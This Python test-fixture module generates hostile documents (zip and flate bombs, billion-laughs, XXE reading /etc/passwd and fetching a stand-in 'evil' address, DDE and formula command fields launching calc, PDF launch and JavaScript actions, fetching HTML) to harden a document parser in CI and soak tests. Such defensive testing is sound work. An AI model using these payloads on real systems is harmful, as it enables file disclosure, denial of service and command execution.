"""Documents that mean harm, made by code: bombs, loops, depths, lies about sizes, and addresses to be fetched.

Each is made for a size: small ones are read in CI, large ones in the soak.
"""

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import NamedTuple

Maker = Callable[[int], bytes]
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://127.0.0.1:9/evil"


class HostileDocument(NamedTuple):
    """What it is called, how its name ends, and how it is made for a size."""

    name: str
    ending: str
    make: Maker


def packed(parts: Mapping[str, bytes | str], stored: bool = False) -> bytes:
    """Return a zip of the parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _relation(number: int, kind: str, target: str, mode: str = "") -> str:
    return f'<Relationship Id="rId{number}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def _relations(*found: str) -> str:
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{"".join(found)}</Relationships>'


def _types(*overrides: tuple[str, str]) -> str:
    told = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
    rels = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    plain = '<Default Extension="xml" ContentType="application/xml"/>'
    return f'<Types xmlns="{_PACKAGE}/content-types">{rels}{plain}{told}</Types>'


def word(body: str, more: Mapping[str, bytes | str] | None = None, head: str = "") -> bytes:
    """Return a Word document with this body."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return packed(
        {
            "[Content_Types].xml": _types(("/word/document.xml", kind)),
            "_rels/.rels": _relations(_relation(1, "officeDocument", "word/document.xml")),
            "word/document.xml": f"{head}<w:document {W} {R}><w:body>{body}</w:body></w:document>",
            **(more or {}),
        }
    )


def p(text: str) -> str:
    """Return a paragraph of Word."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def sheet(rows: str, more: Mapping[str, bytes | str] | None = None, head: str = "", tail: str = "") -> bytes:
    """Return a workbook whose one sheet has these rows."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return packed(
        {
            "[Content_Types].xml": _types(
                ("/xl/workbook.xml", f"{main}.sheet.main+xml"), ("/xl/worksheets/sheet1.xml", f"{main}.worksheet+xml")
            ),
            "_rels/.rels": _relations(_relation(1, "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'<workbook {S} {R}><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>",
            "xl/_rels/workbook.xml.rels": _relations(_relation(1, "worksheet", "worksheets/sheet1.xml")),
            "xl/worksheets/sheet1.xml": f"{head}<worksheet {S}><sheetData>{rows}</sheetData>{tail}</worksheet>",
            **(more or {}),
        }
    )


def c(text: str, place: str = "A1") -> str:
    """Return a cell with its text."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is its catalogue."""
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, io.SEEK_END)
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    at = out.tell()
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, at))
    return out.getvalue()


def stream(data: bytes, told: bytes = b"") -> bytes:
    """Return a stream object of PDF."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), told, data)


CATALOGUE, FONT = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 600 800] >>"


def page(content: bytes, *more: bytes, resources: bytes = b"/Font << /F1 5 0 R >>", told: bytes = b"") -> bytes:
    """Return a PDF of one page; further objects are numbered from 6."""
    one = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << %s >> %s >>" % (resources, told)
    return pdf(CATALOGUE, PAGES, one, content, FONT, *more)


SAID = b"BT /F1 12 Tf 72 720 Td (You will be able to maintain pumps) Tj ET"
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)
XXE = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{EVIL}">]>'


def _nested_filters(count: int) -> bytes:
    data = SAID
    for _ in range(count):
        data = zlib.compress(data)
    return stream(data, b"/Filter [%s]" % b" ".join([b"/FlateDecode"] * count))


def _flipped(data: bytes) -> bytes:
    middle = len(data) // 2
    return data[:middle] + bytes(255 - byte for byte in data[middle : middle + 40]) + data[middle + 40 :]


WORD: Mapping[str, Maker] = {
    "media bomb": lambda n: word(p("x"), {"word/media/a.png": bytes(2_000_000 * n)}),
    "text bomb": lambda n: word(p("a" * 2_000_000 * n)),
    "spaces bomb": lambda n: word(" " * 2_000_000 * n),
    "deep elements": lambda n: word("<w:sdt>" * 300 * n + "</w:sdt>" * 300 * n),
    "deep tables": lambda n: word("<w:tbl><w:tr><w:tc>" * 60 * n + p("in") + "</w:tc></w:tr></w:tbl>" * 60 * n),
    "billion laughs": lambda _: word(p("&a9;"), head=LAUGHS),
    "external entity": lambda _: word(p("&x;&y;"), head=XXE),
    "external document type": lambda _: word(p("x"), head=f'<!DOCTYPE a SYSTEM "{EVIL}.dtd">'),
    "entity in relations": lambda _: word(p("x"), {"word/_rels/document.xml.rels": f"{XXE}<a>&y;</a>"}),
    "very many parts": lambda _: word(p("x"), {f"word/a{k}.xml": "<a/>" for k in range(2100)}),
    "very many paragraphs": lambda n: word(p("能编写程序。") * 2_000 * n),
    "very wide span": lambda _: word(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>' + p("x") + "</w:tc></w:tr></w:tbl>"
    ),
    "span that is no number": lambda _: word(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-x"/></w:tcPr>' + p("x") + "</w:tc></w:tr></w:tbl>"
    ),
    "very many attributes": lambda n: word("<w:p " + " ".join(f'a{k}="x"' for k in range(1_000 * n)) + "/>"),
    "very long attribute": lambda n: word(f'<w:p a="{"x" * 500_000 * n}"/>'),
    "very many cells": lambda n: word("<w:tbl><w:tr>" + f"<w:tc>{p('x')}</w:tc>" * 1_500 * n + "</w:tr></w:tbl>"),
    "macros": lambda _: word(p("You will be able to mend pumps"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}),
    "external template": lambda _: word(
        p("x"),
        {
            "word/_rels/document.xml.rels": _relations(
                _relation(1, "attachedTemplate", f"{EVIL}.dotm", ' TargetMode="External"'),
                _relation(2, "image", "file:///etc/passwd", ' TargetMode="External"'),
            )
        },
    ),
    "external chunk": lambda _: word('<w:altChunk r:id="rId1"/>' + p("x")),
    "fields that run": lambda _: word('<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"/></w:p>' + p("x")),
    "name that leads elsewhere": lambda _: word(p("x"), {"../../evil.xml": "<a/>", "/etc/evil.xml": "<a/>"}),
    "no body": lambda _: packed({"word/document.xml": f"<w:document {W}/>"}),
    "no document": lambda _: packed({"a.xml": "<a/>"}),
    "document in UTF-16": lambda _: packed({"word/document.xml": f"<w:document {W}/>".encode("utf-16")}),
    "document that is no XML": lambda _: packed({"word/document.xml": b"\xff\xfe\0\0<<<"}),
    "flipped bytes": lambda _: _flipped(word(p("x") * 200)),
    "cut off": lambda _: word(p("x") * 200)[:-200],
    "header alone": lambda _: b"PK\x03\x04",
    "zip in a zip": lambda n: packed({"word/document.xml": packed({"a": bytes(1_000_000 * n)})}),
    "old document": lambda _: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(3000),
    "rich text": lambda _: b"{\\rtf1 {\\object\\objupdate x}}",
    "page of the web": lambda _: b"<html><body>x",
    "picture": lambda _: b"\x89PNG\r\n\x1a\n" + bytes(100),
    "nothing": lambda _: b"",
}
SHEETS: Mapping[str, Maker] = {
    "cells bomb": lambda n: sheet(f'<row r="1">{c("a" * 2_000_000 * n)}</row>'),
    "media bomb": lambda n: sheet("", {"xl/media/a.png": bytes(2_000_000 * n)}),
    "billion laughs": lambda _: sheet(f'<row r="1">{c("&a9;")}</row>', head=LAUGHS),
    "external entity": lambda _: sheet(f'<row r="1">{c("&x;&y;")}</row>', head=XXE),
    "very far cell": lambda _: sheet(f'<row r="1">{c("能编程")}</row><row r="60000">{c("x", "XFD60000")}</row>'),
    "row beyond the last": lambda _: sheet(f'<row r="9999999">{c("x", "A9999999")}</row>'),
    "rows in disorder": lambda _: sheet(f'<row r="9">{c("x", "A9")}</row><row r="2">{c("y", "A2")}</row>'),
    "row that is no number": lambda _: sheet(f'<row r="-x">{c("x", "A-x")}</row>'),
    "place that is none": lambda _: sheet(f'<row r="1">{c("x", "ZZZZZZZ1")}</row>'),
    "very large cell": lambda n: sheet(f'<row r="1">{c("能编写程序。" * 5_000 * n)}</row>'),
    "claimed dimension": lambda _: sheet(
        f'<row r="1">{c("x")}</row>', head="", tail='<dimension ref="A1:XFD1048576"/>'
    ),
    "very many merged": lambda n: sheet(
        f'<row r="1">{c("x")}</row>',
        tail="<mergeCells>" + "".join(f'<mergeCell ref="A{k}:XFD{k}"/>' for k in range(1, 300 * n)) + "</mergeCells>",
    ),
    "shared text that is not there": lambda _: sheet('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'),
    "number beyond all": lambda _: sheet('<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>nan</v></c></row>'),
    "date beyond all": lambda _: sheet('<row r="1"><c r="A1" t="d"><v>99999-99-99</v></c></row>'),
    "formula that runs": lambda _: sheet(
        '<row r="1"><c r="A1"><f>cmd|"/c calc"!A1</f></c><c r="B1" t="str"><f>WEBSERVICE("x")</f><v>y</v></c></row>'
    ),
    "macros": lambda _: sheet(f'<row r="1">{c("能编程")}</row>', {"xl/vbaProject.bin": b"x" * 99}),
    "deep elements": lambda n: sheet("<row>" * 300 * n + "</row>" * 300 * n),
    "very many rows": lambda n: sheet(
        "".join(f'<row r="{k}">' + c("x", f"A{k}") + "</row>" for k in range(1, 1_000 * n))
    ),
    "no sheet": lambda _: packed({"xl/workbook.xml": f"<workbook {S}/>"}),
    "binary workbook": lambda _: packed({"xl/workbook.bin": b"x"}),
    "cut off": lambda _: sheet(f'<row r="1">{c("x")}</row>')[:-100],
    "flipped bytes": lambda _: _flipped(sheet(f'<row r="1">{c("x")}</row>')),
    "table of text": lambda _: b"a,b\n1,2\n",
    "protected": lambda _: bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") + bytes(3000),
}
PDFS: Mapping[str, Maker] = {
    "pages in a circle": lambda _: pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"),
    "pages that are each other's": lambda _: pdf(
        CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"
    ),
    "deep pages": lambda n: pdf(
        CATALOGUE,
        *(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (k + 3) for k in range(400 * n)),
        b"<< /Type /Page >>",
    ),
    "claimed pages": lambda _: pdf(CATALOGUE, b"<< /Type /Pages /Kids [] /Count 999999999 >>"),
    "page very often": lambda n: pdf(
        CATALOGUE,
        b"<< /Type /Pages /Kids [%s] /Count 1 >>" % (b"3 0 R " * 6_000 * n),
        b"<< /Type /Page /Parent 2 0 R >>",
    ),
    "no catalogue": lambda _: pdf(b"<< >>"),
    "catalogue of itself": lambda _: pdf(b"1 0 R"),
    "table before itself": lambda _: pdf(CATALOGUE, PAGES, b"<< /Type /Page >>", trailer=b"/Prev 9"),
    "table beyond the end": lambda _: pdf(CATALOGUE, PAGES, trailer=b"/Prev 99999999999"),
    "flate bomb": lambda n: page(stream(zlib.compress(bytes(20_000_000 * n), 9), b"/Filter /FlateDecode")),
    "text bomb": lambda n: page(stream(zlib.compress(SAID * 2_000 * n, 9), b"/Filter /FlateDecode")),
    "filter in a filter": lambda n: page(_nested_filters(10 * n)),
    "form in itself": lambda _: page(
        stream(b"/X Do"),
        stream(b"/X Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 6 0 R >> >>"),
        resources=b"/XObject << /X 6 0 R >>",
    ),
    "contents of itself": lambda _: page(b"[4 0 R 4 0 R]"),
    "resources of themselves": lambda _: page(stream(SAID), resources=b"/Font 3 0 R"),
    "length of itself": lambda _: page(b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
    "length beyond the end": lambda _: page(b"<< /Length 999999999 >>\nstream\nx\nendstream"),
    "very deep lists": lambda n: page(stream(b"[" * 2_000 * n)),
    "very many states": lambda n: page(stream(b"q " * 5_000 * n + SAID)),
    "very wide characters": lambda _: page(
        stream(SAID),
        stream(b"1 beginbfrange <0000> <FFFFFFFF> <0000> endbfrange"),
        resources=b"/Font << /F1 << /Type /Font /Subtype /Type0 /ToUnicode 6 0 R >> >>",
    ),
    "opens an address": lambda _: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s) >> >>" % EVIL.encode(),
        PAGES,
        b"<< /Type /Page >>",
    ),
    "starts a program": lambda _: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>", PAGES, b"<< /Type /Page >>"
    ),
    "runs a script": lambda _: page(stream(SAID), told=b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "contents elsewhere": lambda _: page(stream(b"", b"/F (%s) /FFilter /FlateDecode" % EVIL.encode())),
    "unknown protection": lambda _: pdf(CATALOGUE, PAGES, trailer=b"/Encrypt << /Filter /Evil /V 99 >>"),
    "scanned": lambda _: page(stream(b"")),
    "cut off": lambda _: page(stream(SAID))[:200],
    "flipped bytes": lambda _: _flipped(page(stream(SAID))),
    "header alone": lambda _: b"%PDF-1.7",
    "another file": lambda _: b"MZ" + bytes(100),
}
PAGES_OF_THE_WEB: Mapping[str, Maker] = {
    "deep": lambda n: b"<div>" * 20_000 * n + b"x",
    "deep and closed": lambda n: b"<b><p>" * 5_000 * n + b"x" + b"</p></b>" * 5_000 * n,
    "left open": lambda n: b"<a " * 50_000 * n,
    "comment left open": lambda n: b"<p>x<!--" * 20_000 * n,
    "script left open": lambda n: b"<p>x</p><script>" + b"x" * 500_000 * n,
    "tables in tables": lambda n: b"<table><tr><td>" * 1_000 * n + b"x",
    "very many cells": lambda n: b"<table><tr>" + b"<td>x" * 20_000 * n,
    "very many attributes": lambda n: b"<p " + b" ".join(b"a%d=x" % k for k in range(5_000 * n)) + b">x",
    "very long attribute": lambda n: b'<p a="' + b"x" * 1_000_000 * n + b'">x',
    "entities": lambda n: b"<p>" + b"&amp;&#0;&#xFFFFFFFF;&bogus;" * 5_000 * n,
    "external document type": lambda _: f'<!DOCTYPE html SYSTEM "{EVIL}.dtd"><p>x'.encode(),
    "entities of its own": lambda _: f"{LAUGHS}<p>&a9;".encode(),
    "fetches": lambda _: (
        f'<base href="{EVIL}"><link rel=stylesheet href="{EVIL}"><img src="{EVIL}"><iframe src="{EVIL}"></iframe>'
        f'<object data="{EVIL}"></object><script src="{EVIL}"></script><meta http-equiv=refresh content="0;{EVIL}"><p>x'
    ).encode(),
    "drawing that fetches": lambda _: f'<svg><image href="{EVIL}"/><script>x</script></svg><p>x'.encode(),
    "charset that is none": lambda _: b'<meta charset="zlib"><p>x',
    "charset of machines": lambda _: b'<meta charset="utf-7"><p>+ADw-script+AD4-',
    "zeros": lambda _: b"<p>a\0b</p>\0\0",
    "sections": lambda n: b"<![CDATA[" * 10_000 * n,
    "instructions": lambda n: b"<?php system('x') ?>" * 10_000 * n,
    "nothing seen": lambda _: b"<html><head><title>x</title></head><script>x</script>",
    "controls": lambda n: bytes(range(1, 32)) * 1_000 * n + b"<p>x",
}
TEXTS: Mapping[str, Maker] = {
    "zeros": lambda n: bytes(100_000 * n),
    "zeros within": lambda _: b"You will be able to\0 mend pumps",
    "one line": lambda n: "能编写程序，".encode() * 20_000 * n,
    "very many lines": lambda n: b"a\n" * 5_000 * n,
    "very many marks": lambda n: (b"#" * 50_000 + b"\n" + b"[" * 50_000 + b"\n" + b"*" * 50_000 + b"\n") * n,
    "links": lambda n: b"[a](" * 20_000 * n,
    "brackets": lambda n: b"(1)" * 20_000 * n,
    "numbers": lambda n: b"1." * 30_000 * n,
    "stops": lambda n: b". " * 30_000 * n,
    "colons": lambda n: "能：".encode() * 10_000 * n,
    "table very wide": lambda n: b"|a" * 20_000 * n + b"|",
    "code left open": lambda n: b"```\n" + b"x\n" * 5_000 * n,
    "half a character": lambda _: "能编".encode()[:-1],
    "half of UTF-16": lambda _: "能编".encode("utf-16")[:-1],
    "mark alone": lambda _: b"\xef\xbb\xbf",
    "controls": lambda n: bytes(range(128, 160)) * 200 * n + b" pumps are mended by students who can",
    "escapes": lambda _: b"\x1b]0;evil\x07\x1b[2J You will be able to mend pumps",
    "written backwards": lambda _: "\u202eYou will be able to mend\u202c pumps\u200b\u2066".encode(),
    "document of another kind": lambda _: b"%PDF-1.7",
    "program": lambda _: b"MZ\x90\0" + bytes(range(256)) * 40,
}
ALL = tuple(
    HostileDocument(name, ending, make)
    for ending, found in (
        (".docx", WORD),
        (".xlsx", SHEETS),
        (".pdf", PDFS),
        (".html", PAGES_OF_THE_WEB),
        (".txt", TEXTS),
        (".md", TEXTS),
    )
    for name, make in found.items()
)
"""Every hostile document, by kind."""
OTHER_ENDINGS = (".exe", ".docm", ".dotm", ".xlsm", ".doc", ".pptx", ".zip", ".svg", "", ".js")
